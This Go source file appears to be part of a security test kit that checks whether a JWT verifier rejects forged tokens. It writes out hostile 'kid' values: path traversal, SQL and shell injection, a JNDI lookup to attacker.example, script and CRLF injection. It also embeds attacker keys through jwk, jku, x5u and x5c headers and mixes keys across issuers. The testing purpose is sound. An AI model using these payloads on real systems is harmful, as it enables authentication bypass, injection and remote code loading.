// SPDX-License-Identifier: Apache-2.0

package authtest

import (
	"crypto"
	"iter"
	"net/http"
	"strconv"
	"strings"
)

var keyAttacks = []func(*kit){keyID, keyIDForged, keyIDAbsent, keyInHeader, certificateInHeader, otherIssuer, oddKeys}

// keyID names no key of the issuer in a token with a valid signature: a verifier
// that tries all keys accepts it.
func keyID(k *kit) {
	if k.issuer.Secret.Len() > 0 {
		return // a shared secret has no kid
	}
	k.row = "kid"
	for _, test := range []struct{ name, id string }{
		{"unknown", "no-such-key"},
		{"of a file", "../../../../../../etc/passwd"},
		{"of a device", "/dev/null"},
		{"of a URL", "https://attacker.example/key"},
		{"SQL", "x' UNION SELECT 'secret' --"},
		{"SQL, always true", "' OR '1'='1"},
		{"shell", "$(id)|`id`;id"},
		{"template", "${jndi:ldap://attacker.example/a}{{7*7}}"},
		{"markup", "<script>alert(1)</script>"},
		{"of 1000 bytes", strings.Repeat("k", 1000)},
		{"of a megabyte", strings.Repeat("k", 1<<20)},
		{"Unicode", "ключ"},
		{"from right to left", "\u202e" + k.key.id},
		{"in upper case", strings.ToUpper(k.key.id)},
		{"with a space after", k.key.id + " "},
		{"with a NUL after", k.key.id + "\x00"},
		{"with a path after", k.key.id + "/../" + k.key.id},
		{"with a line break", "x\r\nX-Injected: yes"},
		{"empty", ""},
		{"index", "0"},
	} {
		k.unknownKey(test.name, k.sign(k.header().set("kid", quote(test.id)), k.claims()), k.key)
	}
	for _, value := range []string{"null", "0", "1", "true", "[]", "{}", "[" + quote(k.key.id) + "]"} {
		k.unknownKey("the JSON value "+value, k.sign(k.header().set("kid", value), k.claims()), k.key)
	}
}

// keyIDForged names a key whose content the attacker knows, and signs with it.
func keyIDForged(k *kit) {
	k.row = "kid of a known secret"
	for _, test := range []struct{ name, id, secret string }{
		{"/dev/null", "/dev/null", ""},
		{"/dev/null, relative", "../../../../../../../dev/null", ""},
		{"a SQL literal", "x' UNION SELECT 'secret' --", "secret"},
		{"/proc", "/proc/sys/kernel/randomize_va_space", "2\n"},
		{"its own text", "known", "known"},
	} {
		k.hmac(test.name, "HS256", []byte(test.secret), k.header().set("kid", quote(test.id)))
	}
}

// keyIDAbsent is valid if the issuer has one key for the algorithm, and ambiguous if
// it has several.
func keyIDAbsent(k *kit) {
	k.row = "kid absent"
	candidates := 0
	for _, published := range k.issuer.Keys() {
		if published.Algorithm == k.key.algorithm {
			candidates++
		}
	}
	k.issuer.mu.Lock()
	for _, odd := range k.issuer.oddKeys {
		if odd.usable {
			candidates++
		}
	}
	k.issuer.mu.Unlock()
	header := k.header().without("kid")
	if candidates > 1 {
		k.signed("one of several keys", header, k.claims())
		return
	}
	k.valid("the only key", header, k.claims())
}

// keyInHeader contains the key or its URL.
//
//	RFC 8725 §3.10: "blindly following a "jku" (JWK set URL) or "x5u" (X.509
//	URL) header, which may contain an arbitrary URL, could result in
//	server-side request forgery (SSRF) attacks."
func keyInHeader(k *kit) {
	k.row = "key in the header"
	attacker, own := k.issuer.attackerKey(), k.issuer.attackerJWK()
	injected := func(name string, header object) {
		header = header.set("alg", quote(attacker.algorithm))
		k.unknownKey(name, attacker.sign(header.String(), k.claims().String()), nil)
	}
	base := k.header()
	for _, id := range []struct {
		name   string
		header object
	}{
		{"", base},
		{", no kid", base.without("kid")},
		{", its kid", base.set("kid", quote(attackerKeyID))},
	} {
		injected("jwk, signed with it"+id.name, id.header.set("jwk", own.String()))
	}
	injected("jwk without kid, signed with it", base.set("jwk", own.with(jwk{"kid": nil}).String()))
	injected("jwk with the issuer's kid, signed with it", base.set("jwk", own.with(jwk{"kid": k.key.id}).String()))
	secret := jwk{"kty": "oct", "kid": attackerKeyID, "k": encode("secret")}
	k.hmac("jwk with a secret, signed with it", "HS256", []byte("secret"), base.set("jwk", secret.String()))
	for _, parameter := range []string{"jku", "x5u"} {
		for _, id := range []string{attackerKeyID, k.key.id} {
			name := parameter + " of the attacker, signed with that key, kid " + id
			injected(name, base.set(parameter, quote(k.issuer.attackerURL(k.row+": "+name))).set("kid", quote(id)))
		}
		name := parameter + " of the attacker"
		k.signed(name, base.set(parameter, quote(k.issuer.attackerURL(k.row+": "+name))), k.claims())
		k.signed(parameter+" of the issuer", base.set(parameter, quote(k.issuer.KeysURL)), k.claims())
		k.signed(parameter+" of a file", base.set(parameter, `"file:///etc/passwd"`), k.claims())
	}
	if public := k.key.public(); public != nil {
		k.signed("jwk of the issuer", base.set("jwk", newJWK(k.key.id, k.key.algorithm, public).String()), k.claims())
	}
	k.signed("jwk null", base.set("jwk", "null"), k.claims())
	k.signed("jwk empty", base.set("jwk", "{}"), k.claims())
}

func certificateInHeader(k *kit) {
	k.row = "certificate in the header"
	attacker := k.issuer.attackerKey()
	der := certificate(attacker.private.(crypto.Signer))
	base := k.header()
	for _, id := range []string{k.key.id, ""} {
		header := base.set("alg", quote(attacker.algorithm)).set("x5c", marshal(x5c(der)))
		name := "x5c, signed with its key"
		if id == "" {
			header = header.without("kid")
			name += ", no kid"
		}
		k.forged(name, attacker.sign(header.String(), k.claims().String()))
	}
	if own, ok := k.key.private.(crypto.Signer); ok {
		k.signed("x5c of the issuer", base.set("x5c", marshal(x5c(certificate(own)))), k.claims())
	}
	k.signed("x5c of the attacker", base.set("x5c", marshal(x5c(der))), k.claims())
	k.signed("x5c empty", base.set("x5c", "[]"), k.claims())
	if k.profiled() {
		// The thumbprint brings no key. Providers that do not follow RFC 9068
		// are known to send it, and a verifier may then pass over it.
		k.signed("x5t", base.set("x5t", quote(x5t(der))), k.claims())
		k.signed("x5t#S256", base.set("x5t#S256", quote(x5t256(der))), k.claims())
	}
}

// otherIssuer uses the key or the name of an issuer that the handler does not trust.
func otherIssuer(k *kit) {
	k.row = "another issuer"
	foreignKey := &key{id: k.key.id, algorithm: k.key.algorithm, private: foreign(k.key.algorithm)}
	named := k.claims().set("iss", `"https://attacker.example"`)
	k.forged("its key and its name", foreignKey.sign(k.header().String(), named.String()))
	k.forged("its key and the issuer's name", foreignKey.sign(k.header().String(), k.claims().String()))
	k.signed("the issuer's key and its name", k.header(), named)
}

// oddKeys signs with the keys of [Issuer.PublishOddKeys].
func oddKeys(k *kit) {
	k.row = "odd key"
	k.issuer.mu.Lock()
	odd := k.issuer.oddKeys
	k.issuer.mu.Unlock()
	for _, odd := range odd {
		if odd.sign == nil {
			continue
		}
		header := k.header().set("kid", odd.jwk.id()).set("alg", quote(odd.algorithm))
		var input string
		var signature []byte
		for n := 0; signature == nil; n++ {
			input = signingInput(header, k.claims().set("x", strconv.Itoa(n)))
			signature = odd.sign(input)
		}
		a := k.attempt(odd.name, input+"."+encode(signature))
		if odd.usable {
			a.Want, a.code = []int{http.StatusOK}, ""
		} else {
			a.Want = append(a.Want, http.StatusServiceUnavailable)
		}
		k.emit(a)
	}
}

// CrossIssuerAttacks yields tokens with the key of one issuer and the name of the
// other, for a handler that accepts the tokens of both. A verifier that puts all
// keys into one set accepts them.
func CrossIssuerAttacks(a, b *Issuer) iter.Seq[Attempt] {
	return func(yield func(Attempt) bool) {
		done := false
		for _, pair := range []struct {
			name           string
			signing, named *Issuer
		}{
			{"key of the first and name of the second", a, b},
			{"key of the second and name of the first", b, a},
		} {
			k := &kit{issuer: pair.named, section: "key", row: "two issuers", yield: yield, done: done}
			k.key = pair.signing.signer("", "")
			own, other := k.header(), k.header().set("kid", quote(pair.named.signer("", "").id))
			k.unknownKey(pair.name+", kid of the key", k.sign(own, k.claims()), k.key)
			k.unknownKey(pair.name+", kid of the name", k.sign(other, k.claims()), k.key)
			done = k.done
		}
	}
}
